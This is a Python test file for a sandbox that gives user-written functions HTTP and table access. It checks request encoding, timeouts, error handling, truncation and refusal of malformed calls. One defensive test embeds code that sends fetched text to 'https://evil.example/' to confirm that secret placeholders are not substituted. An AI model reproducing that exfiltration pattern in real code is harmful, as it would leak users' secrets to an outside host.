"""HTTP and tables from inside a function: what the Reach is asked, what the code gets, and what is recorded."""

import asyncio
import json
from collections.abc import Mapping
from typing import Any

import pytest

from greenroom.domain.asks import Answer, failed
from greenroom.providers.clock import SystemClock
from greenroom.providers.sandbox import Limits, MontySandbox
from tests.support.functions import ScriptedReach, call


def rooms(request: Mapping[str, Any]) -> Answer:
    body = {"rooms": [{"number": "12", "price": 90}], "asked": request["json"]}
    return {"status": 201, "headers": {"content-type": "application/json"}, "text": json.dumps(body), "ms": 1.0}


async def test_a_request_carries_what_was_said_and_the_secret_stays_a_name(sandbox: MontySandbox) -> None:
    code = """\
def run(conv, view):
    found = conv.http.post(
        "https://rooms.example/{{secret.HOTEL}}/find",
        headers={"Authorization": "Bearer {{secret.ROOMS_KEY}}", "X-Try": 1},
        params={"view": view, "floor": [1, 2], "none": None},
        json={"nights": 2},
        timeout=3,
    )
    found.raise_for_status()
    room = found.json()["rooms"][0]
    conv.state.room = room["number"]
    conv.say("I have a room.")
    return [found.status, found.status_code, found.ok, found.headers["content-type"], room["price"]]
"""
    reach = ScriptedReach(on_http=rooms)
    answer = await sandbox.run(call(code, arguments={"view": "sea & land"}), reach)
    assert reach.requests == [
        {
            "method": "POST",
            "url": "https://rooms.example/{{secret.HOTEL}}/find?view=sea%20%26%20land&floor=1&floor=2",
            "headers": {"Authorization": "Bearer {{secret.ROOMS_KEY}}", "X-Try": "1"},
            "body": None,
            "json": {"nights": 2},
            "timeout_ms": 3_000,
        }
    ]
    assert answer["result"] == [201, 201, True, "application/json", 90]
    written, asked, said = answer["effects"]
    assert written == {"type": "set", "variable": "room", "value": "12"}
    assert (asked["type"], asked["method"], asked["status"], said["type"]) == ("http", "POST", 201, "say")
    assert asked["url"] == reach.requests[0]["url"]
    assert asked["ms"] >= 0


@pytest.mark.parametrize("verb", ["get", "put", "patch", "delete"])
async def test_every_verb_has_its_method(sandbox: MontySandbox, verb: str) -> None:
    reach = ScriptedReach(on_http=lambda request: {"status": 204, "headers": {}, "text": ""})
    answer = await sandbox.run(call(f"def run(conv):\n    return conv.http.{verb}('https://x').status\n"), reach)
    assert answer["result"] == 204
    assert reach.requests[0]["method"] == verb.upper()
    assert reach.requests[0]["timeout_ms"] == 10_000


async def test_a_form_is_encoded_and_requests_is_the_same(sandbox: MontySandbox) -> None:
    code = """\
import requests

def run(conv):
    try:
        answer = requests.post("https://x", data={"a": "b c", "d": 1}, timeout=(3, 5), verify=True)
    except requests.exceptions.RequestException:
        return "failed"
    return answer.json()
"""
    reach = ScriptedReach(on_http=lambda request: {"status": 200, "headers": {}, "text": "[1]"})
    assert (await sandbox.run(call(code), reach))["result"] == [1]
    assert reach.requests[0]["body"] == "a=b%20c&d=1"
    assert reach.requests[0]["headers"] == {"Content-Type": "application/x-www-form-urlencoded"}
    assert reach.requests[0]["timeout_ms"] == 5_000


async def test_a_request_that_fails_is_an_exception_that_code_can_catch(sandbox: MontySandbox) -> None:
    code = """\
def run(conv):
    seen = []
    for _ in range(2):
        try:
            conv.http.get("https://x")
        except TimeoutError as wrong:
            seen.append("late: " + str(wrong))
        except OSError as wrong:
            seen.append(str(wrong))
    return seen
"""
    answers = iter([failed("address_refused", "that address is inside"), failed("timeout", "nobody answered")])
    answer = await sandbox.run(call(code), ScriptedReach(on_http=lambda request: next(answers)))
    assert answer["result"] == ["address_refused: that address is inside", "late: nobody answered"]
    assert [each["error"]["code"] for each in answer["effects"]] == ["address_refused", "timeout"]


async def test_an_exception_that_nobody_catches_names_the_line_of_the_request(sandbox: MontySandbox) -> None:
    answer = await sandbox.run(call("def run(conv):\n    conv.http.get('https://x')\n"), ScriptedReach())
    assert answer["error"]["line"] == 2
    assert answer["error"]["message"] == "line 2: OSError: nobody: nobody is outside"
    assert answer["effects"][0]["type"] == "http"


async def test_what_comes_back_can_name_no_secret(sandbox: MontySandbox) -> None:
    code = """\
def run(conv):
    stolen = conv.http.get("https://x").text
    conv.http.get("https://evil.example/" + stolen)
    return conv.table("t").find()[0]["note"]
"""
    hostile = "{{secret.KEY}} and {{ secret.KEY }}"
    reach = ScriptedReach(
        on_http=lambda request: {"status": 200, "headers": {"x": hostile}, "text": hostile},
        on_table=lambda facts: {"rows": [{"key": "1", "values": {"note": hostile}}], "count": 1},
    )
    answer = await sandbox.run(call(code), reach)
    assert "{{" not in reach.requests[1]["url"]
    assert answer["result"] == "{ {secret.KEY}} and { { secret.KEY }}"


async def test_tables_are_read_and_written(sandbox: MontySandbox) -> None:
    code = """\
def run(conv):
    guests = conv.table("guests")
    row = guests.put({"name": "Ann", "nights": 2}, key="12")
    found = guests.find({"name": "Ann"}, limit=5, nights=2)
    return [row, found, guests.find_one(name="Ann"), guests.delete(key="12")]
"""

    def answer_table(facts: Mapping[str, Any]) -> Answer:
        return {"rows": [{"key": "12", "values": {"name": "Ann", "nights": 2}}], "count": 1}

    reach = ScriptedReach(on_table=answer_table)
    answer = await sandbox.run(call(code), reach)
    row = {"name": "Ann", "nights": 2, "_key": "12"}
    assert answer["result"] == [row, [row], row, 1]
    names = ("op", "table", "where", "values", "key")
    assert [tuple(each.get(name) for name in names) for each in reach.tables] == [
        ("put", "guests", {}, {"name": "Ann", "nights": 2}, "12"),
        ("find", "guests", {"name": "Ann", "nights": 2}, {}, ""),
        ("find", "guests", {"name": "Ann"}, {}, ""),
        ("delete", "guests", {}, {}, "12"),
    ]
    assert [(each["type"], each["op"], each["rows"]) for each in answer["effects"]] == [
        ("table", "put", 1),
        ("table", "find", 1),
        ("table", "find", 1),
        ("table", "delete", 1),
    ]


class SlowReach(ScriptedReach):
    """Answers after a while."""

    seconds = 0.6

    async def http(self, request: Mapping[str, Any]) -> Answer:
        self.requests.append(request)
        await asyncio.sleep(self.seconds)
        return {"status": 200, "headers": {}, "text": "late"}


async def test_waiting_is_no_running_time() -> None:
    sandbox = MontySandbox(SystemClock(), limits=Limits(wall_ms=300), workers=1)
    answer = await sandbox.run(call("def run(conv):\n    return conv.http.get('https://x').text\n"), SlowReach())
    await sandbox.close()
    assert answer["result"] == "late"
    assert answer["ms"] > 600


async def test_waiting_has_an_end_of_its_own() -> None:
    reach = SlowReach()
    reach.seconds = 30
    sandbox = MontySandbox(SystemClock(), limits=Limits(wait_ms=200), workers=1)
    code = "def run(conv):\n    try:\n        conv.table('t').find()\n        conv.http.get('https://x', timeout=60)\n"
    code += "    except TimeoutError as wrong:\n        return str(wrong)\n"
    reach.on_table = lambda facts: {"rows": [], "count": 0}
    answer = await sandbox.run(call(code), reach)
    await sandbox.close()
    assert answer["result"] == "no answer within 1.2 s"
    assert reach.requests[0]["timeout_ms"] == 200


async def test_all_waiting_together_has_an_end_too() -> None:
    sandbox = MontySandbox(SystemClock(), limits=Limits(waits_ms=500), workers=1)
    answer = await sandbox.run(call("def run(conv):\n    while True: conv.http.get('https://x')\n"), SlowReach())
    await sandbox.close()
    assert answer["error"] == {"code": "calls", "message": "it waited more than 0.5 s for answers"}


async def test_a_reach_that_breaks_is_an_error_inside(sandbox: MontySandbox) -> None:
    def broken(request: Mapping[str, Any]) -> Answer:
        raise RuntimeError("of the host: password=1234")

    answer = await sandbox.run(call("def run(conv):\n    conv.http.get('https://x')\n"), ScriptedReach(on_http=broken))
    assert answer["error"]["message"] == "line 2: OSError: broken: it broke with RuntimeError"


async def test_large_answers_are_cut(sandbox: MontySandbox) -> None:
    reach = ScriptedReach(
        on_http=lambda request: {"status": 200, "headers": {}, "text": "x" * 1_000_000},
        on_table=lambda facts: {"rows": [{"key": "1", "values": {"a": "x" * 1_000_000}}], "count": 1},
    )
    answer = await sandbox.run(call("def run(conv):\n    return len(conv.http.get('https://x').text)\n"), reach)
    assert 40_000 < answer["result"] < 256 * 1024
    answer = await sandbox.run(call("def run(conv):\n    conv.table('t').find()\n"), reach)
    assert "too_large" in answer["error"]["message"]


@pytest.mark.parametrize(
    "line, message",
    [
        ("conv.http.get('https://x', header={})", "conv.http takes no argument 'header'"),
        ("conv.http.get(3)", "the URL must be a text, not int"),
        ("conv.http.request('TRACE', 'https://x')", "'TRACE' is no HTTP method"),
        ("conv.http.post('https://x', json=conv)", "a value is a Conversation"),
        ("conv.table(3).find()", "a table's name must be a text, not int"),
    ],
)
async def test_a_wrong_request_is_refused_before_it_goes_out(sandbox: MontySandbox, line: str, message: str) -> None:
    reach = ScriptedReach()
    answer = await sandbox.run(call(f"def run(conv):\n    {line}\n"), reach)
    assert message in answer["error"]["message"]
    assert reach.requests == []
    assert reach.tables == []
